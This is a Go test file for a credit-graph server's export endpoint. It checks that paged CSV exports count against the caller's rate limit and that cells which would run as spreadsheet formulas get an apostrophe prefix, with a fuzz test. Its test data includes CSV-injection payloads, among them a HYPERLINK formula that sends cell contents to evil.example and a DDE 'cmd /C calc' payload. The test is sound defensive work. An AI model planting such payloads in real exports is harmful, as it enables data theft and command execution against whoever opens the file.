package server

import (
	"encoding/csv"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/creditgraph/creditgraph/graph"
	"github.com/creditgraph/creditgraph/seed/seedtest"
	"github.com/creditgraph/creditgraph/storage/storagetest"
)

// An export costs its caller one request of the rate for each page it reads, not one for the
// whole: otherwise one request would buy up to MaxExportRows rows of work. Pages beyond the
// bucket wait for it to refill instead of cutting the file.
func TestExportPagesTakeFromTheCallersRate(t *testing.T) {
	defer func(n int) { exportPage = n }(exportPage)
	exportPage = 5
	storagetest.Each(t, func(t *testing.T, e storagetest.Engine) {
		db := e.Open(t, storagetest.Options{})
		acc := seedtest.DemoAccess(t, db)
		serve := func(edge EdgeConfig) *httptest.Server {
			srv := httptest.NewServer(New(Config{Deps: graph.Deps{Client: db.Client, Ledger: db.Ledger, Authorizer: acc.Authorizer},
				Tokens: acc.Tokens, Ready: db.Ready, Logger: slog.New(slog.NewTextHandler(io.Discard, nil)), Edge: edge}))
			t.Cleanup(srv.Close)
			return srv
		}
		get := func(srv *httptest.Server, path string) (int, string) {
			t.Helper()
			req, _ := http.NewRequest(http.MethodGet, srv.URL+path, nil)
			req.Header.Set("Authorization", "Bearer "+acc.Secrets["demo-market-clerk"])
			res, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer res.Body.Close()
			body, _ := io.ReadAll(res.Body)
			return res.StatusCode, string(body)
		}
		export := "/export?" + url.Values{"connection": {"departments"}, "fields": {"code"}, "format": {"csv"}, "limit": {"15"}}.Encode()
		lines := func(body string) int { return strings.Count(strings.TrimSpace(body), "\n") } // rows after the header

		// A bucket of three: the export's three pages take all of it, and the next request waits.
		spent := serve(EdgeConfig{RatePerToken: 0.001, RateBurst: 3})
		if code, body := get(spent, export); code != http.StatusOK || lines(body) != 15 {
			t.Fatalf("export: %d, %d rows: %.300s", code, lines(body), body)
		}
		if code, body := get(spent, "/export?"+url.Values{"connection": {"departments"}, "format": {"csv"}, "limit": {"1"}}.Encode()); code != http.StatusTooManyRequests {
			t.Errorf("after a three-page export on a bucket of three, another request got %d %.200s; want 429", code, body)
		}
		// A bucket of one that refills quickly: the pages wait their turn and the file is whole.
		paced := serve(EdgeConfig{RatePerToken: 50, RateBurst: 1})
		if code, body := get(paced, export); code != http.StatusOK || lines(body) != 15 {
			t.Errorf("paced export: %d, %d rows: %.300s", code, lines(body), body)
		}
	})
}

// runsAsFormula tells whether a spreadsheet opening a CSV would read cell as a formula: it
// begins with =, +, -, @, a tab or a carriage return and is not a plain number (OWASP's list).
func runsAsFormula(cell string) bool {
	if cell == "" || !strings.ContainsAny(cell[:1], "=+-@\t\r") {
		return false
	}
	_, err := strconv.ParseFloat(cell, 64)
	return err != nil || strings.ContainsAny(cell, "eEiInNxXpP_") // not a signed decimal number
}

// csvCells writes cells as one row through the export's CSV writer and reads them back.
func csvCells(t testing.TB, cells []string) []string {
	var b strings.Builder
	w := &csvWriter{w: csv.NewWriter(&b)}
	if err := w.row(append(cells, "end")); err != nil { // a row of one empty cell is a blank line
		t.Fatal(err)
	}
	if err := w.close(nil); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(rows) != 1 || len(rows[0]) != len(cells)+1 {
		t.Fatalf("the CSV of %q reads back as %q (%v)", cells, rows, err)
	}
	return rows[0][:len(cells)]
}

// checkCSVCell holds a written cell to what was exported: never a formula, and the text itself,
// apostrophe-prefixed exactly when it would otherwise run.
func checkCSVCell(t testing.TB, text, got string) {
	t.Helper()
	if runsAsFormula(got) {
		t.Errorf("%q is exported as %q, which a spreadsheet runs as a formula", text, got)
	}
	want := text
	if runsAsFormula(text) {
		want = "'" + text
	}
	if got != want {
		t.Errorf("%q is exported as %q, want %q", text, got, want)
	}
}

var formulaTexts = []string{
	`=HYPERLINK("http://evil.example/?d="&B2&C2,"查看详情")`, `=1+1`, `+1+1`, `-2+3`, `@SUM(1,1)`,
	"\t=1+1", "\r=1+1", `-cmd|' /C calc'!A0`, `=`, `-`, `+`, `@`, `=罚款`,
	// Not formulas: numbers, dates, text, an apostrophe already there, empty.
	`-5`, `+3.25`, `12`, `0.5`, `2026-03-01`, `某公司`, `'=1+1`, ``, ` =1+1`, `-.5`, `1e5`,
}

// Every exported CSV cell whose text a spreadsheet would run as a formula is made text, and
// every other cell is written as it is: the class of CSV injection, whatever field the text came
// from (TestExportsNeverCarryFormulas plants it through the API).
func TestCSVCellsNeverRunAsFormulas(t *testing.T) {
	got := csvCells(t, formulaTexts)
	for i, text := range formulaTexts {
		checkCSVCell(t, text, got[i])
	}
}

func FuzzCSVCell(f *testing.F) {
	for _, s := range formulaTexts {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if !utf8.ValidString(text) || strings.Contains(text, "\n") {
			t.Skip() // encoding/csv reads a line break inside a quoted field back as \n
		}
		checkCSVCell(t, text, csvCells(t, []string{text})[0])
	})
}
